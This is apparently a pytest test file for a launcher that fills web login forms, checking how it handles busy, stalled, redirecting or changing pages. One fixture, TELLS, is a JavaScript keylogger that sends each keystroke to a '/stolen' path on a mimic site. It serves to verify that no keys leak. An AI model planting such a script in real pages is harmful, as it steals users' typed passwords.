"""Pages that are busy, huge, endless or stuck, or that move while filled: bounded, and a password goes once."""

from __future__ import annotations

import threading
from collections.abc import Callable

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest

from launcher.recipes.steps import Place
from launcher.secret import Secret
from launcher.sign_on.driver import FieldFault, SystemUnreachableError, WrongOriginError
from tests.shell.surfaces.conftest import Desk
from tests.shell.surfaces.launching import OFFICER, Sitting, own, settings
from tests.shell.surfaces.site import LOGON, Answer, Request, Site, to
from tests.shell.surfaces.test_page import on_screen
from tests.unit.session.launch_desk import entry

pytestmark = pytest.mark.usefixtures("qapp")

ENTRY = """
name = "Property"
kind = "web"
within_s = {within_s}
[web]
url = "{url}"
sign_on = "form"
credential = "sign-in"
[[step]]
do = "fill"
field = "#user"
value = "{{username}}"
[[step]]
do = "fill"
field = "#pass"
value = "{{password}}"
[[step]]
do = "press"
control = "#go"
[[marker]]
means = "ready"
selector = "#home"
"""

TELLS = """<input id=pass type=password autofocus><script>
for (const kind of ["keydown", "keypress", "keyup", "beforeinput", "input"]) {
  addEventListener(kind, (event) => fetch("/stolen?" + kind + event.key + event.data, { keepalive: true }), true);
}</script>"""
"""A page that waits for keys, and tells its server of each."""

HOME = "<p id=home>Property</p>"


def _sitting(desk: Desk, site: Site, within_s: float = 20.0) -> Sitting:
    entry = ENTRY.format(url=site["/"], within_s=within_s)
    return Sitting(desk, {"property": entry}, settings(), sign_in=own("4471", "hunter2"))


def _passwords(site: Site) -> list[str]:
    return [request.form.get("pass", "") for request in site.asked if request.method == "POST"]


def _busy(after: str) -> Answer:
    return Answer("<title>Busy</title>", 503, (("Retry-After", after),))


def test_a_busy_system_says_when_it_will_serve(desk: Desk, site: Site) -> None:
    site.pages["/"] = _busy("150")
    page = desk.open(site["/"], site.origin)
    with pytest.raises(SystemUnreachableError, match=r"asks to be tried again in 3 minutes\.") as caught:
        desk.run(page.load(site["/"]))
    assert caught.value.again_s == 150


def test_a_busy_system_that_will_serve_soon_is_asked_once_more_and_signed_on_to_once(desk: Desk, site: Site) -> None:
    site.pages |= {"/": lambda _: LOGON if site.paths().count("/") > 1 else _busy("0"), "/logon": HOME}
    sitting = _sitting(desk, site)
    try:
        assert sitting.open("property").state == "ready"
        assert site.paths().count("/") == 2
        assert _passwords(site) == ["hunter2"]
    finally:
        sitting.close()


@pytest.mark.parametrize(("after", "asked"), [("0", 2), ("60", 1), ("soon", 1)])
def test_a_system_that_stays_busy_is_not_asked_for_ever(desk: Desk, site: Site, after: str, asked: int) -> None:
    site.pages["/"] = _busy(after)
    sitting = _sitting(desk, site)
    try:
        failed = sitting.open("property")
        assert failed.error is not None
        assert (failed.state, failed.error.reference) == ("failed", "system-unreachable")
        assert site.paths().count("/") == asked
    finally:
        sitting.close()


def _hangs_up(_: Request) -> str:
    raise ConnectionAbortedError


AWAY = "<form id=f method=post action=http://elsewhere.invalid/saml></form><script>f.submit()</script>"
LATER = f"<p>Moment</p>{AWAY}".replace("f.submit()", "addEventListener('load', () => setTimeout(() => f.submit()))")


@pytest.mark.parametrize(
    ("answer", "reference"),
    [
        pytest.param(_busy("0"), "system-unreachable", id="busy"),
        pytest.param(_hangs_up, "system-unreachable", id="hangs-up"),
        pytest.param(AWAY, "page-not-expected", id="sent-elsewhere"),
        pytest.param(LATER, "page-not-expected", id="sent-elsewhere-later"),
    ],
)
def test_what_goes_wrong_once_a_system_has_the_password_is_said_at_once_and_it_is_given_it_once(
    desk: Desk, site: Site, answer: str | Answer | Callable[[Request], str], reference: str
) -> None:
    # On a line that was in use before, the engine itself sends once more what met no answer.
    site.pages |= {"/": Answer(LOGON, 200, (("Connection", "close"),)), "/logon": answer}
    sitting = _sitting(desk, site, within_s=600.0)
    try:
        failed = sitting.open("property")
        assert failed.error is not None
        assert (failed.state, failed.error.reference, failed.needs) == ("failed", reference, "")
        assert [one.reference for one in sitting.records] == [reference]
        assert desk.faults[-1:] in ([], [None])  # it is said once
        assert _passwords(site) == ["hunter2"]
    finally:
        sitting.close()


def test_a_new_password_that_a_system_was_given_before_it_hung_up_is_not_given_again(desk: Desk, site: Site) -> None:
    site.pages |= {"/": Answer(LOGON, 200, (("Connection", "close"),)), "/logon": _hangs_up}
    entry = ENTRY.format(url=site["/"], within_s=600.0).replace('"sign-in"', '"store"')
    sitting = Sitting(desk, {"property": entry}, settings())
    desk.run(sitting.store.propose(OFFICER, "property", own("4471", "hunter2"), Secret("hunter3")))
    try:
        for _ in range(2):  # with the new one, which it has as a rule, and then with the one before
            assert sitting.open("property").state == "failed"
            sitting.does(lambda: sitting.launches.close("property"))
        assert _passwords(site) == ["hunter3", "hunter2"]
    finally:
        sitting.close()


def test_what_a_system_says_of_a_logon_counts_before_the_status_it_says_it_with(desk: Desk, site: Site) -> None:
    site.pages |= {"/": LOGON, "/logon": Answer("<p class=no>Not with this password</p>", 500)}
    refused = '[[marker]]\nmeans = "failed"\nselector = ".no"\nsays = "No."\n'
    entry = ENTRY.format(url=site["/"], within_s=600.0) + refused
    sitting = Sitting(desk, {"property": entry}, settings(), sign_in=own("4471", "hunter2"))
    try:
        failed = sitting.open("property")
        assert failed.error is not None
        assert (failed.state, failed.error.reference, failed.says) == ("failed", "sign-on-refused", "No.")
    finally:
        sitting.close()


def test_a_fault_that_follows_the_officers_own_act_is_theirs(desk: Desk, site: Site) -> None:
    site.pages["/"] = "<p>Here</p><script>onkeydown = () => location.assign('http://elsewhere.invalid/')</script>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    with on_screen(desk) as keys:
        looking = desk.start(page.first_of([Place(selector="#home")], 1.0, or_fault=True))
        desk.until(lambda: not QTest.keyClick(keys, Qt.Key.Key_A) and desk.faults)
        assert desk.run_future(looking) is None
    with pytest.raises(WrongOriginError):  # a run that begins where the page stands at fault
        desk.run(page.first_of([Place(selector="#home")], 600.0, or_fault=True))


def test_a_page_of_twenty_megabytes_is_signed_on_to(desk: Desk, site: Site) -> None:
    line = "<p>" + "custody record of a long night " * 30 + "</p>\n"
    archive = f"<details><summary>Archive</summary>{line * (20_000_000 // len(line))}</details>"
    site.pages |= {"/": archive + LOGON, "/logon": HOME}
    sitting = _sitting(desk, site, within_s=60.0)
    try:
        assert sitting.open("property").state == "ready"
        assert _passwords(site) == ["hunter2"]
    finally:
        sitting.close()


def test_a_page_that_stands_still_while_it_is_filled_is_given_up(
    desk: Desk, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.written_page.FILL_WITHIN_S", 0.3)
    site.pages["/"] = f"{LOGON}<script>document.getElementById('pass').oninput = () => {{ for (;;); }}</script>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    with pytest.raises(FieldFault, match="did not answer in time"):
        desk.run(page.fill("#pass", Secret("hunter2"), hides=True))
    assert _passwords(site) == []


@pytest.mark.parametrize("way", ["redirects", "scripts"])
def test_a_system_that_leads_in_circles_is_given_up(desk: Desk, site: Site, way: str) -> None:
    if way == "redirects":
        site.pages |= {"/": to("/again"), "/again": to("/")}
    else:
        site.pages |= {"/": "<script>location = '/again'</script>", "/again": "<script>location = '/'</script>"}
    sitting = _sitting(desk, site, within_s=1.5)
    try:
        failed = sitting.open("property")
        assert failed.state != "ready"
        assert _passwords(site) == []
    finally:
        sitting.close()


def test_a_system_that_answers_late_is_given_up_and_signed_on_to_by_who_tries_again(desk: Desk, site: Site) -> None:
    answers = threading.Event()

    def late(_: Request) -> str:
        answers.wait(20.0)
        return LOGON

    site.pages |= {"/": late, "/logon": HOME}
    sitting = _sitting(desk, site, within_s=1.5)
    try:
        left = sitting.open("property")
        assert (left.state, left.needs) == ("needs", "finish")
        assert _passwords(site) == []
        answers.set()
        patient = entry("property", ENTRY.format(url=site["/"], within_s=600.0))
        sitting.does(lambda: sitting.launches.open_again(patient))
        assert sitting.until_it_stands("property").state == "ready"
        assert _passwords(site) == ["hunter2"]
    finally:
        answers.set()
        sitting.close()


def test_a_logon_whose_form_has_changed_is_given_nothing(
    desk: Desk, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.written_page.FILL_WITHIN_S", 0.3)
    site.pages["/"] = LOGON.replace("type=password", "type=text")
    sitting = _sitting(desk, site)
    try:
        failed = sitting.open("property")
        assert failed.error is not None
        assert failed.error.reference == "field-not-filled"
        assert _passwords(site) == []
    finally:
        sitting.close()


def test_a_logon_that_asks_again_is_not_filled_again(desk: Desk, site: Site) -> None:
    site.pages |= {"/": LOGON, "/logon": LOGON}
    sitting = _sitting(desk, site, within_s=6.0)
    try:
        assert sitting.open("property").state != "ready"
        assert _passwords(site) == ["hunter2"]
    finally:
        sitting.close()


def test_keys_that_are_typed_while_the_page_moves_away_reach_no_other(
    desk: Desk, site: Site, new_site: Callable[[], Site], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Round after round the page goes elsewhere while it is typed into; the page there waits for keys, and tells."""
    monkeypatch.setattr("launcher.shell.surfaces.written_page.FILL_WITHIN_S", 0.5)
    mimic = new_site()
    mimic.pages["/"] = TELLS
    page = desk.open(site["/"], site.origin, visits=(mimic.origin,))
    moved = 0
    for moment in (0, 4):
        away = f"this.onkeydown = null; setTimeout(() => {{ location = '{mimic['/']}' }}, {moment})"
        site.pages["/"] = f"{LOGON}<script>pass.onkeydown = function () {{ {away} }}</script>"
        desk.run(page.load(site["/"]))
        assert desk.run(page.first_of([Place(selector="#pass")], 20.0)) is not None
        try:
            desk.run(page.fill("#pass", Secret("hunter2" * 400), hides=True, by_keys=True))
        except (FieldFault, WrongOriginError):
            moved += 1
        assert desk.run(page.first_of([Place(url=mimic["/"], selector="#pass")], 20.0)) is not None
    assert moved > 0
    assert mimic.paths().count("/stolen") == 0


def test_a_logon_form_that_is_built_anew_is_filled_and_sent_once(desk: Desk, site: Site) -> None:
    def logon(request: Request) -> str:
        return HOME if request.form.get("pass") == "hunter2" else LOGON

    build = "document.body.innerHTML = document.body.innerHTML"
    site.pages |= {"/": f"<body>{LOGON}<script>setTimeout(() => {{ {build} }}, 60)</script>", "/logon": logon}
    sitting = _sitting(desk, site)
    try:
        assert sitting.open("property").state in ("ready", "failed")  # a form that went as it was filled is not sent
        assert _passwords(site) in (["hunter2"], [])
    finally:
        sitting.close()


@pytest.mark.parametrize("busy", [True, False])
def test_loading_again_what_a_logon_has_answered_sends_no_password(desk: Desk, site: Site, busy: bool) -> None:
    def logon(request: Request) -> Answer:
        return Answer(HOME) if request.method == "GET" else Answer(HOME, 503 if busy else 200)

    site.pages |= {"/": LOGON, "/logon": logon}
    sitting = _sitting(desk, site, within_s=20.0)
    try:
        assert sitting.open("property").state == "ready"
        surface = sitting.view("property").surface
        for _ in range(2):
            before = len(site.asked)
            desk.surfaces.reload(surface)
            desk.until(lambda before=before: len(site.asked) > before)  # type: ignore[misc] # bound at once
        assert [request.method for request in site.asked if request.path == "/logon"] == ["POST", "GET", "GET"]
    finally:
        sitting.close()
